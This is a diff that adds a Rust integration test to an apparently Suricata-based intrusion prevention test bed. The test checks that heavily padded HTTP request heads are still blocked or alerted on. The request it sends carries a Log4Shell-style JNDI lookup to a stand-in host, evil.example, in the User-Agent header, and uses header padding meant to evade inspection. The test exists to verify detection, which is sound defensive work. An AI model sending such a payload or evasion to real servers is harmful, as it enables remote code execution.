@@ -642,3 +642,37 @@ fn http_and_flow_records(b: &Bed, ca: &str) -> Result<()> {
     tls_inspect_tests::tlsbed::check_eve_schema(&all)?;
     Ok(())
 }
+
+/// A head padded past what the HTTP follower holds cannot blind the rules: a 21 KB head (nginx
+/// takes it) is followed and its rule fires; a head over 64 KiB, which nginx would also refuse,
+/// is blocked as Suricata's "request buffer too long" before the server sees any of it; in
+/// monitor mode it is an alert and nginx answers as it would.
+#[test]
+fn a_padded_head_cannot_blind_the_rules() -> Result<()> {
+    let (b, _) = ips_bed("mode = \"block\"\nlevel = \"strict\"")?;
+    let pad = |n: usize, each: usize| (0..n).map(|i| format!("X-Pad-{i}: {}\\r\\n", "p".repeat(each))).collect::<String>();
+    let request = |padding: &str| format!("s.sendall(b'GET / HTTP/1.1\\r\\nHost: server.test\\r\\n{padding}User-Agent: ${{jndi:ldap://evil.example/a}}\\r\\nConnection: close\\r\\n\\r\\n')\n");
+    // 3 x 7 KB: past the old 16 KiB limit, within nginx's 8 KiB per line.
+    let out = python_tls_exchange(&b, "", &request(&pad(3, 7000)))?;
+    assert!(out.contains("403 Forbidden") && out.contains("sid 9000002"), "{out}");
+    // 10 x 7 KB: more than the follower holds.
+    let out = python_tls_exchange(&b, "", &request(&pad(10, 7000)))?;
+    assert!(out.contains("403 Forbidden") && out.contains("sid 2221018"), "{out}");
+    let records = b.wait_records(4)?;
+    let a = records.iter().find(|r| r["event_type"] == "alert" && r["alert"]["signature_id"] == 2221018).expect("the anomaly's alert");
+    assert_eq!((a["alert"]["action"].as_str(), a["alert"]["signature"].as_str()), (Some("blocked"), Some("SURICATA HTTP request buffer too long")), "{a}");
+    assert_eq!(a["alert"]["category"], "Generic Protocol Command Decode");
+    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
+    assert!(!access.contains("jndi") && access.lines().count() == 0, "nginx saw a request: {access}");
+
+    // Monitor mode: the alert, and the head goes on to nginx (which refuses one that large).
+    let (b, _) = ips_bed("mode = \"monitor\"")?;
+    let out = python_tls_exchange(&b, "", &request(&pad(10, 7000)))?;
+    assert!(!out.contains("sid 2221018"), "{out}");
+    b.wait_records(2)?;
+    let access = std::fs::read_to_string(b.t.dir.join("nginx/access.log")).unwrap_or_default();
+    assert!(access.contains("\" 400 "), "nginx did not get the request: {access}; {:?}; {}", b.eve(), std::fs::read_to_string(b.t.dir.join("nginx/error.log")).unwrap_or_default());
+    let a = alerts(&b);
+    assert!(a.iter().any(|r| r["alert"]["signature_id"] == 2221018 && r["alert"]["action"] == "allowed"), "{a:?}");
+    Ok(())
+}
